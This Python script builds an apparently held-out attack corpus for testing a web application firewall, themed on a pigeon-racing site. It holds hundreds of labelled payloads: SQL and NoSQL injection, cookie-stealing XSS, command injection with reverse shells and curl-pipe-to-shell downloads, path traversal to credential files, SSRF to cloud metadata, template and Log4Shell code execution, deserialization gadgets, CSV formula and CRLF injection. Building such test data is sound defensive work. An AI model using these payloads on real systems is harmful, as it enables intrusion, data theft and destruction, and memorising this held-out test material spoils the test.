#!/usr/bin/env python3
"""Attack corpus for the pigeonracing held-out WAF corpus (seed 33502).

Each block line is "class :: value". U+2424 = newline, U+240D = carriage
return, U+2409 = tab.
"""
import json
import os
import random

SEED = 33502


def block(text):
    out = []
    for line in text.split("\n"):
        if not line.strip():
            continue
        cls, val = line.split(" :: ", 1)
        val = val.replace("\u2424", "\n").replace("\u240d", "\r").replace("\u2409", "\t")
        out.append((cls.strip(), val))
    return out


LIT = {}

LIT["sqli"] = block(r"""
union :: GB24N12345' UNION SELECT username, password_hash, NULL FROM members--
union :: Bourges' union all select 1,loft_name,email,phone,5 from lofts where '1'='1
union :: 0 UNION SELECT table_name,NULL,NULL FROM information_schema.tables-- -
union :: x' UnIoN SeLeCt member_id, CONCAT(login,0x3a,pw) ,3 FROM users#
union :: 14) union select group_concat(column_name),2 from information_schema.columns where table_name='members'-- 
union :: race=14 UNION/**/SELECT/**/card_number,expiry/**/FROM/**/payments
union :: O'Rourke' UNION SELECT NULL,@@version,NULL-- x
union :: -1' union select 1,2,sqlite_version(),4--
union :: pau%' UNION SELECT name, sql FROM sqlite_master --
union :: GB23S18811')) UNION SELECT usename,passwd FROM pg_shadow--
boolean :: GB24N12345' OR '1'='1
boolean :: O'Hara' or 1=1-- 
boolean :: loft 114' AND 1=1 AND 'a'='a
boolean :: ' or 'x'='x' --
boolean :: admin'-- 
boolean :: 1 OR 2>1
boolean :: Kowalski' AND SUBSTRING((SELECT password FROM members WHERE login='admin'),1,1)='a'-- 
boolean :: x' AND ASCII(SUBSTR((SELECT pw FROM users LIMIT 1),2,1))>77 AND 'q'='q
boolean :: 14 AND (SELECT COUNT(*) FROM members WHERE is_admin=1)>0
boolean :: ') or ('a'='a
boolean :: GB24N1234%' OR 1 LIKE 1 -- 
boolean :: 1' || '1'='1
boolean :: 3 or true--
error :: Tours' AND extractvalue(1,concat(0x7e,(SELECT password FROM members LIMIT 1)))-- 
error :: 1 AND updatexml(null,concat(0x3a,user()),null)
error :: ' AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))--
error :: Pau' AND 1=CAST((SELECT string_agg(login||':'||pw, ',') FROM users) AS int)--
error :: ' and (select 1 from (select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)y)-- 
error :: 1' AND EXP(~(SELECT * FROM (SELECT user())a))-- 
time-blind :: GB24N12345' AND SLEEP(7)-- 
time-blind :: 1 AND (SELECT 1 FROM (SELECT SLEEP(10))z)
time-blind :: loft'; WAITFOR DELAY '0:0:8'--
time-blind :: Bourges' AND 4411=(SELECT 4411 FROM pg_sleep(6))-- 
time-blind :: ' OR IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0)#
time-blind :: 14 AND BENCHMARK(9000000,SHA1('pigeon'))
time-blind :: x'||pg_sleep(9)||'
time-blind :: 1) AND (SELECT CASE WHEN (1=1) THEN dbms_pipe.receive_message('a',9) ELSE 1 END FROM dual) IS NOT NULL--
time-blind :: ' AND 1=(SELECT 1 WHERE randomblob(300000000))-- 
stacked :: 14; DROP TABLE race_results;--
stacked :: Great result!'); DELETE FROM forum_posts WHERE 1=1;--
stacked :: loft'; UPDATE members SET is_admin=1 WHERE login='pete';--
stacked :: '; INSERT INTO members(login,pw,is_admin) VALUES('hawk','x',1);-- 
stacked :: 1; EXEC xp_cmdshell 'ping -n 3 203.0.113.9';--
stacked :: x'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/p|sh';--
stacked :: 12; TRUNCATE clock_times; --
stacked :: '; CREATE USER hawk IDENTIFIED BY 'pw'; GRANT ALL ON *.* TO hawk;-- 
comment-evasion :: GB24N'/**/OR/**/1/**/=/**/1--
comment-evasion :: 1/*!50000UNION*//*!50000SELECT*/login,pw/**/FROM/**/members
comment-evasion :: Pau'%09or%091=1%23
comment-evasion :: x'/*loft*/union/*race*/select/*ring*/password/**/from/**/members--
comment-evasion :: 1 uNiOn%0aSeLeCt 1,pw%0dfrom members
comment-evasion :: ' oR/**/'1'/**/lIKe/**/'1
comment-evasion :: 0'%20/*!uNIOn*/%20/*!sELEct*/%201,2,3--%20
comment-evasion :: -1'+UNI/**/ON+SEL/**/ECT+1,2--
out-of-band :: '; exec master..xp_dirtree '\\ring.attacker.example\a';--
out-of-band :: x' AND LOAD_FILE(CONCAT('\\\\',(SELECT pw FROM members LIMIT 1),'.oob.attacker.example\\x'))-- 
out-of-band :: ' UNION SELECT UTL_HTTP.REQUEST('http://203.0.113.44/'||(SELECT user FROM dual)) FROM dual--
out-of-band :: 1'; SELECT * INTO OUTFILE '/var/www/html/loft.php' FROM (SELECT '<?php system($_GET[c]); ?>')t;-- 
second-order :: Sunny Side Lofts' WHERE 1=0 UNION SELECT pw FROM members-- 
second-order :: Van den Berghe'),('hawk','pw',1)-- 
second-order :: pete'-- 
order-by :: velocity DESC, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM members LIMIT 1)='a' THEN 1 ELSE 1/0 END)
order-by :: position,(select sleep(4))
order-by :: 1 ASC; SELECT pg_sleep(5)
order-by :: IF(1=1,velocity,ring)
encoded :: GB24N12345%27%20OR%20%271%27%3D%271
encoded :: %2527%2520union%2520select%2520pw%2520from%2520members--
encoded :: 1%C0%A7 OR 1=1--
encoded :: ＇ ｏｒ １＝１－－
encoded :: 0x27204f5220313d31 -- as hex: x' OR 1=1
encoded :: %u0027%u0020or%u00201=1--
encoded :: &#39; OR &#39;1&#39;=&#39;1
encoded :: CHAR(39)+OR+CHAR(49)=CHAR(49)-- in loft field: Sunny'+OR+1=1--
""")

LIT["xss"] = block(r"""
script :: Great race today!<script>fetch('https://attacker.example/c?'+document.cookie)</script>
script :: <script src=//attacker.example/x.js></script>
script :: Hawk problem again</textarea><script>alert(document.domain)</script>
script :: <SCRIPT>new Image().src="//203.0.113.7/?"+localStorage.token</SCRIPT>
script :: <script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>
script :: </title><script>location='//attacker.example/'+document.cookie</script>
script :: <scr<script>ipt>alert(1)</scr</script>ipt>
script :: <script type="module">import('//attacker.example/m.js')</script>
event-handler :: <img src=x onerror=alert(document.cookie)>
event-handler :: Loft photo <img src="loft.jpg" onerror="this.src='//attacker.example/?c='+document.cookie">
event-handler :: <svg onload=fetch('//attacker.example/'+document.cookie)>
event-handler :: <body onload=alert('loft')>
event-handler :: <details open ontoggle=alert(1)>
event-handler :: <input autofocus onfocus=alert(document.domain)>
event-handler :: <video><source onerror="alert(1)"></video>
event-handler :: <marquee onstart=alert(1)>GB24N12345</marquee>
event-handler :: <div onmouseover="alert('ring')">hover for results</div>
event-handler :: <iMg SrC=1 oNeRrOr=prompt(8)>
event-handler :: <svg><animate onbegin=alert(1) attributeName=x dur=1s>
event-handler :: <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
event-handler :: <audio src=1 onerror=import('//attacker.example/a.js')>
event-handler :: <select autofocus onfocus=alert(1)>
event-handler :: <object data=x onerror=alert(1)>
event-handler :: <img/src/onerror=alert`1`>
event-handler :: <form><button formaction=javascript:alert(1)>Submit entry</button></form>
attribute-breakout :: " onmouseover="alert(document.cookie)" x="
attribute-breakout :: Sunny Side Lofts" autofocus onfocus="alert(1)
attribute-breakout :: ' onerror='alert(1)' src='x
attribute-breakout :: GB24N12345"><svg/onload=alert(1)>
attribute-breakout :: x" style="position:fixed;inset:0" onmouseover="fetch('//attacker.example/'+document.cookie)
attribute-breakout :: '><img src=x onerror=alert(1)>
attribute-breakout :: "></a><script>alert(1)</script>
attribute-breakout :: blue chequer"><iframe srcdoc="<script>parent.alert(1)</script>">
js-uri :: <a href="javascript:alert(document.cookie)">Race results PDF</a>
js-uri :: [Click for the liberation report](javascript:fetch('//attacker.example/'+document.cookie))
js-uri :: <iframe src="javascript:alert(1)"></iframe>
js-uri :: javascript:alert(document.domain)//https://fed.example.org
js-uri :: <a href="jav&#x09;ascript:alert(1)">loft map</a>
js-uri :: <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">results</a>
js-uri :: JaVaScRiPt:alert(1)
js-uri :: <a href="  javascript:alert`1`">photos</a>
js-uri :: [loft photo](javascript&#58;alert(1))
js-uri :: <embed src="javascript:alert(1)">
data-uri :: <iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
data-uri :: <object data="data:text/html,<script>alert(1)</script>"></object>
data-uri :: <a href="data:text/html,<script>alert(document.domain)</script>">vet certificate</a>
svg :: <svg><script>alert(1)</script></svg>
svg :: <svg><a xlink:href="javascript:alert(1)"><text x="10" y="20">ring list</text></a></svg>
svg :: <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
svg :: <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
encoded :: %3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E
encoded :: &lt;script&gt;alert(1)&lt;/script&gt;
encoded :: \u003cimg src=x onerror=alert(1)\u003e
encoded :: %253Csvg%2520onload%253Dalert(1)%253E
encoded :: ＜script＞alert(1)＜/script＞
encoded :: \x3cscript\x3ealert(1)\x3c/script\x3e
encoded :: %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
encoded :: +ADw-script+AD4-alert(1)+ADw-/script+AD4-
template :: {{constructor.constructor('alert(document.cookie)')()}}
template :: <div ng-app ng-csp><input autofocus ng-focus="$event.view.alert(1)">
template :: {{$on.constructor('fetch("//attacker.example/"+document.cookie)')()}}
template :: <div v-html="'<img src=x onerror=alert(1)>'"></div>
dom :: #<img src=x onerror=alert(1)>
dom :: '-alert(document.domain)-'
dom :: ";alert(1);//
dom :: </script><script>alert(1)</script>
dom :: \";alert(document.cookie);//
css :: <style>@import'//attacker.example/steal.css';</style>
css :: <div style="background:url(javascript:alert(1))">results</div>
css :: <link rel=stylesheet href=//attacker.example/x.css>
meta :: <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
meta :: <meta http-equiv="refresh" content="0; url=https://attacker.example/login">
meta :: <base href="//attacker.example/">
""")

LIT["cmdi"] = block(r"""
separator :: race14.csv; cat /etc/passwd
separator :: GB24N12345;id
separator :: results.pdf; rm -rf /var/www/uploads
separator :: loft_plan.png;curl -s http://attacker.example/s.sh|sh
separator :: 14 ; wget -qO- 203.0.113.5/x | bash
separator :: r14 ; nc 203.0.113.8 4444 -e /bin/sh
separator :: export.csv;uname -a;
separator :: Bourges;bash -i >& /dev/tcp/198.51.100.23/9001 0>&1
pipe :: clock.log | cat /etc/shadow
pipe :: GB24N12345|id
pipe :: results.txt || curl attacker.example/$(whoami)
pipe :: x | python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.4",53));os.dup2(s.fileno(),1);os.system("id")'
pipe :: photo.jpg | nslookup $(hostname).oob.attacker.example
pipe :: race|/bin/busybox telnetd -p 2323 -l /bin/sh
amp :: 14 && cat /etc/passwd
amp :: loft.png && curl -F f=@/etc/passwd https://attacker.example/u
amp :: 1 & ping -c 10 198.51.100.7 &
amp :: r14.csv & whoami > /var/www/html/w.txt
amp :: Bourges & type C:\Windows\win.ini
amp :: report.pdf & powershell -nop -w hidden -c "iwr http://203.0.113.11/a.ps1|iex"
amp :: x && chmod +s /bin/bash
subshell :: $(cat /etc/passwd)
subshell :: GB24N$(id)12345
subshell :: loft-`whoami`.png
subshell :: `curl attacker.example/r|sh`
subshell :: race_$(sleep 9).csv
subshell :: $(curl -d @/etc/hosts http://203.0.113.61/)
subshell :: name=`uname -a`
subshell :: 14$(wget${IFS}-q${IFS}198.51.100.2/b${IFS}-O-|sh)
subshell :: <(curl attacker.example/x)
newline :: results.csv␤cat /etc/passwd
newline :: GB24N12345%0aid
newline :: export.pdf%0Acurl%20attacker.example%2Fk%7Csh
newline :: r14␤wget 203.0.113.12/m -O /tmp/m␤chmod 755 /tmp/m␤/tmp/m
ifs-evasion :: ;cat${IFS}/etc/passwd
ifs-evasion :: ;{cat,/etc/passwd}
ifs-evasion :: |cat$IFS$9/etc/shadow
ifs-evasion :: ;c'a't /e't'c/pa's'swd
ifs-evasion :: ;c\at /et\c/pas\swd
ifs-evasion :: ;/???/c?t /???/p?ss??
ifs-evasion :: ;/bin/ca* /etc/passw*
ifs-evasion :: ;$'\x63\x61\x74' /etc/passwd
ifs-evasion :: ;X=$'cat\x20/etc/passwd'&&$X
ifs-evasion :: ;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
ifs-evasion :: ;w`u`h`u`oami
ifs-evasion :: ;$(printf '\151\144')
ifs-evasion :: ;${HOME:0:1}etc${HOME:0:1}passwd
ifs-evasion :: ;rev<<<'dwssap/cte/ tac'|sh
ifs-evasion :: ;a=ca;b=t;$a$b /etc/passwd
windows :: loft.png & dir C:\inetpub\wwwroot
windows :: 14 | net user hawk P4ss! /add
windows :: results.csv && certutil -urlcache -split -f http://203.0.113.14/n.exe %TEMP%\n.exe
windows :: x & cmd /c "whoami /all"
windows :: r14 | powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkAKQA=
windows :: GB24N12345 & set
windows :: %COMSPEC% /c type %SystemRoot%\win.ini
windows :: race^&whoami
windows :: 14 & rundll32 \\198.51.100.9\share\x.dll,Main
argument :: --output=/var/www/html/shell.php
argument :: -oProxyCommand=curl${IFS}attacker.example|sh
argument :: --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument :: -exec sh -c 'id' ;
argument :: photo.jpg -write /var/www/html/x.php
argument :: --upload-pack='touch /tmp/pwn'
argument :: -X POST --data-binary @/etc/passwd https://attacker.example/
argument :: '-o /tmp/r14.pdf' ; curl attacker.example
quoting :: '; cat /etc/passwd; echo '
quoting :: "; id; echo "
quoting :: O'Rourke'; curl attacker.example/$(id -u); '
quoting :: \"; sleep 10; \"
quoting :: ' && nc -lvp 4444 -e /bin/bash && '
quoting :: x'$(id)'
redirection :: race.csv > /var/www/html/index.html
redirection :: ;echo '<?php system($_GET[0]);?>' > /var/www/html/p.php
redirection :: ;echo "* * * * * root curl attacker.example|sh" >> /etc/crontab
""")

LIT["traversal"] = block(r"""
dotdot :: ../../../../etc/passwd
dotdot :: ../../../etc/shadow
dotdot :: results/2024/../../../../../etc/hosts
dotdot :: photos/../../../../var/www/.env
dotdot :: ../../../../../../proc/self/environ
dotdot :: loft_plan.png/../../../../root/.ssh/id_rsa
dotdot :: ....//....//....//etc/passwd
dotdot :: ..././..././..././etc/passwd
dotdot :: r14.pdf/../../../config/database.yml
dotdot :: ../../../../../../home/app/.aws/credentials
dotdot :: /downloads/2024/../../../../etc/nginx/nginx.conf
dotdot :: ../../../../proc/self/cmdline
dotdot :: ../../../var/log/nginx/access.log
dotdot :: ../.git/config
backslash :: ..\..\..\..\Windows\win.ini
backslash :: ..\..\..\inetpub\wwwroot\web.config
backslash :: photos\..\..\..\..\boot.ini
backslash :: ..\/..\/..\/etc/passwd
backslash :: ..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts
encoded :: %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded :: ..%2f..%2f..%2f..%2fetc%2fshadow
encoded :: %2e%2e/%2e%2e/%2e%2e/etc/group
encoded :: %252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded :: ..%252f..%252f..%252fetc%252fpasswd
encoded :: %c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
encoded :: ..%c0%af..%c0%af..%c0%afetc/passwd
encoded :: %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded :: ..%e0%80%af..%e0%80%afetc%e0%80%afpasswd
encoded :: ．．／．．／．．／etc／passwd
encoded :: %2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini
encoded :: ..%u2216..%u2216..%u2216windows%u2216win.ini
null-byte :: ../../../../etc/passwd%00.pdf
null-byte :: ../../../etc/hosts%00.csv
null-byte :: ..\..\..\windows\win.ini\u0000.png
absolute :: /etc/passwd
absolute :: /proc/self/environ
absolute :: C:\Windows\System32\config\SAM
absolute :: file:///home/app/.ssh/id_rsa
absolute :: \\198.51.100.3\share\loft.png
absolute :: /var/run/secrets/kubernetes.io/serviceaccount/token
wrapper :: php://filter/convert.base64-encode/resource=../config.php
wrapper :: php://filter/read=string.rot13/resource=/etc/passwd
wrapper :: zip://uploads/loft_plan.zip%23shell.php
wrapper :: phar://uploads/vet_cert.jpg/x.php
""")

LIT["ssrf"] = block(r"""
loopback :: http://127.0.0.1:8080/admin
loopback :: http://localhost/server-status
loopback :: http://127.1/admin/members/export
loopback :: http://0.0.0.0:6379/
loopback :: http://[::1]/admin
loopback :: http://[0:0:0:0:0:ffff:127.0.0.1]/
loopback :: http://localhost:9200/_cat/indices
loopback :: https://127.0.0.1:2375/containers/json
metadata :: http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata :: http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata :: http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata :: http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata :: http://100.100.100.200/latest/meta-data/
metadata :: http://169.254.170.2/v2/credentials
metadata :: http://[fd00:ec2::254]/latest/meta-data/
alt-ip :: http://2130706433/
alt-ip :: http://0x7f000001/admin
alt-ip :: http://0177.0.0.1/
alt-ip :: http://2852039166/latest/meta-data/
alt-ip :: http://0xA9FEA9FE/latest/user-data
alt-ip :: http://0251.0376.0251.0376/
alt-ip :: http://169.254.43518/
alt-ip :: http://127.000.000.001:8500/v1/agent/self
alt-ip :: http://①②⑦.⓪.⓪.①/
alt-ip :: http://[::ffff:a9fe:a9fe]/latest/meta-data/
internal :: http://10.0.0.12:8500/v1/kv/?recurse
internal :: http://192.168.1.1/cgi-bin/config.exp
internal :: http://172.17.0.1:2379/v2/keys/
internal :: http://redis:6379/
internal :: http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal :: http://results-db.internal:5432/
internal :: http://admin.fed.internal/api/members?export=all
internal :: http://10.10.0.5:8080/manager/html
scheme :: gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20pwn%0D%0A
scheme :: file:///etc/passwd
scheme :: dict://127.0.0.1:11211/stats
scheme :: gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E
scheme :: ftp://10.0.0.3/backups/members.sql
scheme :: ldap://127.0.0.1:389/dc=fed
scheme :: jar:http://attacker.example/a.jar!/x.class
scheme :: netdoc:///etc/hosts
redirect :: https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/
redirect :: http://attacker.example/302.php?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin
redirect :: https://fed.example.org@127.0.0.1/admin
redirect :: http://127.0.0.1#@fed.example.org/results
redirect :: http://fed.example.org.attacker.example/loft.png
redirect :: http://127.0.0.1%2523@fed.example.org/
redirect :: https://rebind.attacker.example/latest/meta-data/
""")

LIT["code"] = block(r"""
ssti-jinja :: {{ config.items() }}
ssti-jinja :: Dear {{ member.name }}, {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja :: {{ cycler.__init__.__globals__.os.popen('id').read() }}
ssti-jinja :: {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}
ssti-jinja :: {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}
ssti-jinja :: {{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}
ssti-jinja :: {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('whoami').read() }}
ssti-jinja :: {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja :: {{ get_flashed_messages.__globals__.current_app.config }}
ssti-twig :: {{ _self.env.registerUndefinedFilterCallback('system') }}{{ _self.env.getFilter('id') }}
ssti-twig :: {{ ['id']|filter('system') }}
ssti-twig :: {{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker :: <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker :: ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}
ssti-velocity :: #set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())$rt.exec("whoami")
ssti-erb :: <%= `id` %>
ssti-erb :: <%= File.read('/etc/passwd') %>
ssti-erb :: <%= system("curl attacker.example/r | sh") %>
ssti-smarty :: {system('id')}
ssti-smarty :: {php}echo `cat /etc/passwd`;{/php}
ssti-handlebars :: {{#with "s" as |string|}}{{#with (string.sub.apply 0 "constructor")}}{{this.constructor "return process.mainModule.require('child_process').execSync('id')"}}{{/with}}{{/with}}
ssti-pug :: #{function(){return global.process.mainModule.require('child_process').execSync('id')}()}
ssti-mako :: ${self.module.cache.util.os.system("id")}
ssti-tornado :: {% import os %}{{ os.popen("id").read() }}
el-spring :: ${T(java.lang.Runtime).getRuntime().exec('id')}
el-spring :: *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream())}
el-spring :: __${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
el-spring :: #{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
el-jsp :: ${pageContext.request.getSession().getServletContext().getRealPath('/')}
el-jsp :: ${applicationScope}
ognl :: %{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl :: ${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}
ognl :: %{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}
log4shell :: ${jndi:ldap://attacker.example:1389/loft}
log4shell :: GB24N12345 ${jndi:rmi://203.0.113.77/race}
log4shell :: ${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}
log4shell :: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.14/p}
log4shell :: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}
log4shell :: ${j${upper:n}di:ldaps://attacker.example/o}
log4shell :: Sunny Side Lofts ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}
log4shell :: ${jndi:${lower:L}${lower:D}AP://203.0.113.19:389/x}
log4shell :: $%7Bjndi:ldap://attacker.example/c%7D
eval-js :: require('child_process').execSync('cat /etc/passwd').toString()
eval-js :: process.mainModule.require('child_process').exec('curl attacker.example|sh')
eval-js :: ');require("child_process").exec("id");//
eval-js :: global.process.binding('spawn_sync')
eval-js :: (function(){return this})().constructor.constructor("return process")().exit()
eval-php :: ;system('id');
eval-php :: <?php echo shell_exec($_GET['c']); ?>
eval-php :: ${@system($_GET[x])}
eval-php :: assert("system('id')")
eval-php :: preg_replace('/.*/e','system("id")','x')
eval-python :: __import__('os').system('id')
eval-python :: eval(compile("import os;os.system('curl attacker.example')",'x','exec'))
eval-python :: [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__=='Popen'][0](['id'])
proto-pollution :: {"__proto__": {"isAdmin": true}}
proto-pollution :: {"constructor": {"prototype": {"role": "admin"}}}
proto-pollution :: __proto__[isAdmin]=true
proto-pollution :: constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
proto-pollution :: {"loft":"Sunny","__proto__":{"shell":"/proc/self/exe","argv0":"curl attacker.example|sh"}}
proto-pollution :: ?__proto__.polluted=1
csv-formula :: =cmd|' /C calc'!A0
csv-formula :: =HYPERLINK("https://attacker.example/?d="&A2&B2,"View results")
csv-formula :: =WEBSERVICE("http://attacker.example/x?"&ENCODEURL(C2))
csv-formula :: +1+cmd|'/c powershell iwr 203.0.113.3/a'!Z1
csv-formula :: @SUM(1+1)*cmd|' /C notepad'!A1
csv-formula :: -2+3+cmd|' /C calc'!'A1'
csv-formula :: GB24N12345,=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")
csv-formula :: =DDE("cmd";"/C calc";"__DdeLink_60_870516294")
csv-formula :: Sunny Side Lofts;=1+1;=cmd|'/k ipconfig'!A0
xxe :: <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><race><ring>&x;</ring></race>
xxe :: <!DOCTYPE loft [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><loft/>
xxe :: <?xml version="1.0"?><!DOCTYPE d [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><entry>&m;</entry>
xxe :: <!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>
xxe :: <svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]><text>&f;</text></svg>
xxe :: <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
deser :: rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw
deser :: O:8:"LoftUser":1:{s:7:"isAdmin";b:1;}
deser :: a:1:{i:0;O:16:"RaceResultCache":1:{s:4:"file";s:11:"/etc/passwd";}}
deser :: !!python/object/apply:os.system ["curl attacker.example|sh"]
deser :: {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser :: cos\nsystem\n(S'id'\ntR.
deser :: {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deser :: --- !ruby/object:Gem::Installer␤i: x
""")

LIT["nosqli"] = block(r"""
operator :: {"ring": {"$ne": null}}
operator :: {"login": "admin", "password": {"$ne": "x"}}
operator :: {"password": {"$gt": ""}}
operator :: login[$ne]=x&password[$ne]=x
operator :: {"loft": {"$in": [null, "", "Sunny Side Lofts"]}, "pw": {"$exists": false}}
operator :: {"velocity": {"$gte": 0}, "owner": {"$nin": []}}
operator :: password[$gt]=
operator :: {"email": {"$exists": true}, "$or": [{}, {"role": "admin"}]}
operator :: {"$or": [{"login": "pete"}, {"1": {"$eq": 1}}]}
regex :: {"login": "admin", "password": {"$regex": "^a"}}
regex :: password[$regex]=^p4.*
regex :: {"ring": {"$regex": ".*", "$options": "si"}}
regex :: {"token": {"$regex": "^[0-9a-f]{3}"}}
where :: {"$where": "sleep(5000) || true"}
where :: {"$where": "this.password.match(/^a/)"}
where :: ';return true;var x='
where :: 1'; while(true){}; var y='
where :: {"$where": "function(){return this.is_admin==true}"}
where :: ' || this.role == 'admin' || 'a'=='b
expr :: {"$expr": {"$function": {"body": "function(){sleep(4000);return true}", "args": [], "lang": "js"}}}
expr :: {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}
aggregation :: [{"$lookup": {"from": "members", "localField": "x", "foreignField": "x", "as": "m"}}]
aggregation :: [{"$match": {}}, {"$out": "race_results"}]
aggregation :: {"$unionWith": {"coll": "payments", "pipeline": []}}
couch :: {"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
redis-lua :: ring:*\r\nEVAL "return redis.call('keys','*')" 0
elastic :: {"query": {"script": {"script": "java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')"}}}
""")

LIT["crlf"] = block(r"""
log-forging :: GB24N12345␤2024-06-15 13:42:07 INFO admin login succeeded user=admin ip=10.0.0.1
log-forging :: Bourges%0a[INFO] Payment of £5000 refunded to member 114
log-forging :: loft114␍␤127.0.0.1 - admin [15/Jun/2024:13:42:07 +0000] "GET /admin/ HTTP/1.1" 200 512
log-forging :: pete%0d%0aWARN clock check passed for all members, result approved
log-forging :: x\r\n2024-06-15T13:42:07Z level=info msg="ETS clock tamper check OK"
log-forging :: race14%E5%98%8A%E5%98%8DINFO user=secretary role=admin
header-injection :: en%0d%0aSet-Cookie:%20session=attacker
header-injection :: /results?race=14%0D%0ALocation:%20https://attacker.example/
header-injection :: GB24N12345%0d%0aX-Forwarded-For:%20127.0.0.1
header-injection :: loft%0aContent-Security-Policy:%20script-src%20*
header-injection :: x␍␤Set-Cookie: admin=1; Path=/
header-injection :: %0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header-injection :: report.pdf%E5%98%8D%E5%98%8ASet-Cookie:%20sid=x
header-injection :: nl%u000d%u000aRefresh:%200;url=https://attacker.example/
response-splitting :: en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting :: /lang/fr␍␤␍␤<html><body>Login expired, sign in at https://attacker.example</body></html>
response-splitting :: results%0D%0A%0D%0A%3Cscript%3Edocument.location='//attacker.example'%3C/script%3E
response-splitting :: 14%0d%0aTransfer-Encoding:%20chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0a
mail-header :: pete@example.net␤Bcc: everyone@list.attacker.example
mail-header :: Race results␍␤Cc: a@attacker.example, b@attacker.example
mail-header :: member@example.com%0aBcc:spam@attacker.example%0aSubject:%20Prize%20money
mail-header :: O'Hara <k@example.com>␤Reply-To: secretary@attacker.example␤␤Please pay your pools to IBAN XX00 0000
